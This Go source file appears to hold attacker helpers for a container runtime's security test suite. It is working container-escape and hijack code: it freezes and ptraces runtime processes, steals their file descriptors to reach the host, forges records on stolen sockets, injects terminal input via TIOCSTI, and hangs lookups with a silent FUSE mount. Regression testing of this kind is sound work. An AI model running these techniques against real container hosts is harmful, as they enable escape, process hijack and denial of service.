package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// stopgrab is the attacker of security issue 11.1, 11.2 and 11.4, for
// security.bats. Until STOP exists it watches its pid namespace for new
// processes (the namespace's last pid plus one, polled in a tight loop,
// as exewatch does) and stops each one with SIGSTOP the moment it
// appears: a process the runtime sends into the container is then
// frozen before its first instruction, as long as the attacker likes.
// A process whose comm is USERPROG (the program exec was asked to run,
// caught after its execve) is let go. Every other one is the runtime's:
// the attacker tries PTRACE_SEIZE on it and reads its fds through
// /proc/PID/fd; from each fd that is a directory it walks ".." as far as
// it goes and looks for MARKER, a file that exists only on the host. It
// leaves the process stopped. One line per finding, then a summary:
//
//	runtime PID COMM ptrace=ERR|ok fds=ERR|N
//	fd PID N TARGET host=yes|no
//	watched N processes, M runtime, K host
func stopgrab(args []string) error {
	if len(args) != 3 {
		return fmt.Errorf("stopgrab: want STOPFILE MARKER USERPROG")
	}
	stop, marker, userProg := args[0], args[1], args[2]
	watched, runtimes, host := 0, 0, 0
	w := watchPids(stop)
	for w.poll(nil) {
		for _, pid := range w.next() {
			name, ok := w.stopNew(pid)
			if !ok {
				continue
			}
			watched++
			if name == userProg || name == "" {
				unix.Kill(pid, unix.SIGCONT)
				continue
			}
			runtimes++
			host += inspect(pid, name, marker)
		}
	}
	fmt.Printf("watched %d processes, %d runtime, %d host\n", watched, runtimes, host)
	return nil
}

// inspect reports what the attacker gets of a stopped runtime process;
// it returns how many of its fds led to the host.
func inspect(pid int, comm, marker string) int {
	ptrace := "ok"
	if err := unix.PtraceSeize(pid); err != nil {
		ptrace = errName(err)
	} else {
		// Let go of it again, stopped: interrupt, wait for the
		// ptrace-stop, detach (the group-stop of our SIGSTOP stays).
		unix.PtraceInterrupt(pid)
		var ws unix.WaitStatus
		unix.Wait4(pid, &ws, unix.WALL, nil)
		unix.PtraceDetach(pid)
	}
	dir := "/proc/" + strconv.Itoa(pid) + "/fd"
	ents, err := os.ReadDir(dir)
	if err != nil {
		fmt.Printf("runtime %d %s ptrace=%s fds=%s seccomp=%s\n", pid, comm, ptrace, errName(unwrap(err)), seccompMode(pid))
		return 0
	}
	fmt.Printf("runtime %d %s ptrace=%s fds=%d seccomp=%s\n", pid, comm, ptrace, len(ents), seccompMode(pid))
	host := 0
	for _, e := range ents {
		target, _ := os.Readlink(dir + "/" + e.Name())
		found := "no"
		if reachesHost(dir+"/"+e.Name(), marker) {
			found = "yes"
			host++
		}
		fmt.Printf("fd %d %s %s host=%s\n", pid, e.Name(), strings.ReplaceAll(target, " ", "_"), found)
	}
	return host
}

// reachesHost opens a stolen fd through its magic link and, if it is a
// directory, climbs ".." to the top of its mount tree and looks for the
// host's marker file there.
func reachesHost(link, marker string) bool {
	fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	defer unix.Close(fd)
	up := strings.Repeat("../", 40)
	var st unix.Stat_t
	return unix.Fstatat(fd, up+strings.TrimPrefix(marker, "/"), &st, 0) == nil
}

func unwrap(err error) error {
	if pe, ok := err.(*os.PathError); ok {
		return pe.Err
	}
	if se, ok := err.(*os.SyscallError); ok {
		return se.Err
	}
	return err
}

// tiocsti pushes TEXT and a newline into the input of the terminal on
// fd 0 (CVE-2016-10124, CVE-2017-5226): if fd 0 is the caller's
// controlling terminal, the caller's shell reads the text as typed. It
// prints "tiocsti: ok" or the error.
func tiocsti(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("tiocsti: want TEXT")
	}
	for _, c := range []byte(args[0] + "\n") {
		b := c
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&b))); e != 0 {
			fmt.Printf("tiocsti: %s\n", errName(e))
			return nil
		}
	}
	fmt.Println("tiocsti: ok")
	return nil
}

// fusehang mounts a FUSE file system on DIR and never answers the
// kernel, not even its INIT: every lookup under DIR waits until the
// connection goes (the container's own processes, and any process of
// the runtime that resolves a path there). Needs CAP_SYS_ADMIN and
// /dev/fuse. It prints "mounted" and sleeps.
func fusehang(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("fusehang: want DIR")
	}
	fd, err := unix.Open("/dev/fuse", unix.O_RDWR, 0)
	if err != nil {
		return fmt.Errorf("open /dev/fuse: %w", err)
	}
	opts := fmt.Sprintf("fd=%d,rootmode=40000,user_id=0,group_id=0", fd)
	if err := unix.Mount("hang", args[0], "fuse", 0, opts); err != nil {
		return fmt.Errorf("mount fuse: %w", err)
	}
	fmt.Println("mounted")
	for {
		time.Sleep(time.Hour)
	}
}

// rob is inspect for one process PID, for a process that is already
// there (a created container's init): stopped with SIGSTOP first, as
// stopgrab does, then let go. Same lines as stopgrab.
func rob(args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("rob: want PID MARKER")
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return fmt.Errorf("rob: bad pid %q", args[0])
	}
	b, _ := os.ReadFile("/proc/" + args[0] + "/comm")
	host := inspect(pid, strings.TrimSpace(string(b)), args[1])
	fmt.Printf("watched 1 processes, 1 runtime, %d host\n", host)
	return nil
}

// nosys calls two syscalls newer than many seccomp profiles, with
// arguments the kernel refuses, and prints what each returned: ENOSYS is
// what software that probes for them falls back on (runc's -ENOSYS
// stub); EPERM or a kill is what breaks it.
//
//	openat2: ERRNAME clone3: ERRNAME
func nosys() error {
	_, _, e1 := unix.Syscall6(unix.SYS_OPENAT2, 0, 0, 0, 0, 0, 0)
	_, _, e2 := unix.Syscall(unix.SYS_CLONE3, 0, 0, 0)
	fmt.Printf("openat2: %s clone3: %s\n", errName(e1), errName(e2))
	return nil
}

// seccompMode is the Seccomp field of /proc/PID/status: 0 none, 2 filter.
func seccompMode(pid int) string {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return "?"
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "Seccomp:"); ok {
			return strings.TrimSpace(v)
		}
	}
	return "?"
}

// forge is the attacker of a stolen report socket (security review of
// issue 11): as stopgrab, it stops every new process of its pid namespace
// that is not USERPROG; from each it takes every fd with pidfd_getfd
// (CAP_SYS_PTRACE over the process) and, into each SOCK_SEQPACKET socket
// among them, writes what a runtime's child might report: "my pid is
// VICTIM" (a host process), an error, and a flood of records. A runtime
// that believed any of it would kill VICTIM, write it into a pid file, or
// never finish. It prints one line a socket and a summary:
//
//	stole PID FD
//	forged N sockets
func forge(args []string) error {
	if len(args) != 3 {
		return fmt.Errorf("forge: want STOPFILE VICTIM USERPROG")
	}
	stop, userProg := args[0], args[2]
	victim, err := strconv.Atoi(args[1])
	if err != nil {
		return fmt.Errorf("forge: bad victim %q", args[1])
	}
	rec := func(kind, v1, v2, v3 uint32) []byte {
		b := make([]byte, 16)
		for i, v := range []uint32{kind, v1, v2, v3} {
			b[4*i], b[4*i+1], b[4*i+2], b[4*i+3] = byte(v), byte(v>>8), byte(v>>16), byte(v>>24)
		}
		return b
	}
	forged := 0
	w := watchPids(stop)
	for w.poll(nil) {
		for _, pid := range w.next() {
			name, ok := w.stopNew(pid)
			if !ok {
				continue
			}
			if name == userProg {
				unix.Kill(pid, unix.SIGCONT)
				continue
			}
			pfd, err := unix.PidfdOpen(pid, 0)
			if err != nil {
				unix.Kill(pid, unix.SIGCONT)
				continue
			}
			// Any fd the runtime left it: the report socket keeps the
			// number it had in the runtime, which holds a dozen fds of
			// the container's cgroup directories on v1.
			for fd := 0; fd < 256; fd++ {
				nfd, err := unix.PidfdGetfd(pfd, fd, 0)
				if err != nil {
					continue
				}
				if typ, err := unix.GetsockoptInt(nfd, unix.SOL_SOCKET, unix.SO_TYPE); err == nil && typ == unix.SOCK_SEQPACKET {
					fmt.Printf("stole %d %d\n", pid, fd)
					forged++
					v := uint32(int32(victim))
					unix.Write(nfd, rec(1, v, 0, 0)) // a pid
					unix.Write(nfd, rec(2, 5, 1, 0)) // an error
					for i := 0; i < 64; i++ {
						unix.Write(nfd, rec(5, 99, 0, 0))
					}
				}
				unix.Close(nfd)
			}
			unix.Close(pfd)
			unix.Kill(pid, unix.SIGCONT)
		}
	}
	fmt.Printf("forged %d sockets\n", forged)
	return nil
}

// fifo is the attacker of a created container's exec fifo: it takes
// init's O_PATH fd of it (pidfd_getfd) and opens the fifo itself. MODE
// hold keeps it open (a start that waited for its EOF would never end);
// forge writes what init writes when a startContainer hook failed, with
// text of its own, and keeps it open. It prints "holding" once it holds.
func fifo(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("fifo: want hold|forge")
	}
	ents, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return err
	}
	pfd, err := unix.PidfdOpen(1, 0)
	if err != nil {
		return fmt.Errorf("pidfd_open: %w", err)
	}
	for _, e := range ents {
		t, _ := os.Readlink("/proc/1/fd/" + e.Name())
		if !strings.HasSuffix(t, "exec.fifo") {
			continue
		}
		n, _ := strconv.Atoi(e.Name())
		fd, err := unix.PidfdGetfd(pfd, n, 0)
		if err != nil {
			return fmt.Errorf("pidfd_getfd: %w", err)
		}
		w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_RDWR, 0)
		if err != nil {
			return fmt.Errorf("reopen the fifo: %w", err)
		}
		if args[0] == "forge" {
			unix.Write(w, []byte("1error running startContainer hook #0: FORGED BY THE CONTAINER"))
		}
		fmt.Println("holding")
		time.Sleep(time.Hour)
	}
	return fmt.Errorf("no exec fifo among init's fds")
}

// waitStopped waits (100 ms at most) until pid is stopped, or gone.
func waitStopped(pid int) {
	for i := 0; i < 100; i++ {
		b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
		if err != nil {
			return
		}
		if j := strings.LastIndexByte(string(b), ')'); j > 0 && j+2 < len(b) && (b[j+2] == 'T' || b[j+2] == 't') {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// uidgrab is the host attacker of exec's child where fs.suid_dumpable is
// 1 (stop 28's second review), for run.bats: a host process of the uid
// that exec is asked to run as, with no capabilities. Until STOP exists
// it polls the pids after the last one for new processes; from the
// moment one becomes its uid (kill(pid, 0) no longer EPERM: exec's child
// after setresuid) it spins pidfd_getfd over that process's fds 3-12 for
// up to 300 ms, or until the process is gone (the program exec runs has
// only its stdio after its execve: an fd above 2 there would be a leak,
// reported too). The kernel lets it in while the process is dumpable
// and holds no capability the attacker lacks (ptrace_may_access,
// commoncap's subset rule): a child that dropped its capabilities before
// it made itself non-dumpable again hands its fds over, if the attacker
// asks within that gap (a race: it wins now and then, not every time).
// Lines:
//
//	watching
//	caught PID COMM         (COMM when it became ours)
//	stole PID COMM FD TARGET
//	watched N processes of uid U, stole M fds
func uidgrab(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("uidgrab: want STOPFILE")
	}
	stop := args[0]
	own := map[int]bool{}
	ownThreads := func() {
		ents, _ := os.ReadDir("/proc/self/task")
		for _, e := range ents {
			if t, err := strconv.Atoi(e.Name()); err == nil {
				own[t] = true
			}
		}
	}
	ownThreads()
	pending := map[int]time.Time{} // exists, not yet ours
	watched, stole := 0, 0
	w := watchPids(stop)
	fmt.Println("watching")
	for w.poll(ownThreads) {
		for _, pid := range w.next() {
			if unix.Kill(pid, 0) == unix.ESRCH {
				continue
			}
			pending[pid] = time.Now()
			w.found(pid)
		}
		for pid, seen := range pending {
			err := unix.Kill(pid, 0)
			if err == unix.EPERM && time.Since(seen) < 2*time.Second {
				continue
			}
			delete(pending, pid)
			if err != nil || own[pid] {
				continue
			}
			watched++
			fmt.Printf("caught %d %s\n", pid, comm(pid))
			stole += grabSpin(pid)
		}
	}
	fmt.Printf("watched %d processes of uid %d, stole %d fds\n", watched, os.Getuid(), stole)
	return nil
}

func comm(pid int) string {
	b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
	return strings.TrimSpace(string(b))
}

// grabSpin tries pidfd_getfd on fds 3-12 of pid until one works, the
// process is gone, or 300 ms have passed; it reports and counts what it
// took.
func grabSpin(pid int) int {
	pfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return 0 // gone, or a thread of some process
	}
	defer unix.Close(pfd)
	for start := time.Now(); time.Since(start) < 300*time.Millisecond; {
		for fd := 3; fd <= 12; fd++ {
			nfd, err := unix.PidfdGetfd(pfd, fd, 0)
			if err == unix.ESRCH {
				return 0
			}
			if err != nil {
				continue
			}
			target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(nfd))
			unix.Close(nfd)
			fmt.Printf("stole %d %s %d %s\n", pid, comm(pid), fd, strings.ReplaceAll(target, " ", "_"))
			return 1
		}
	}
	return 0
}
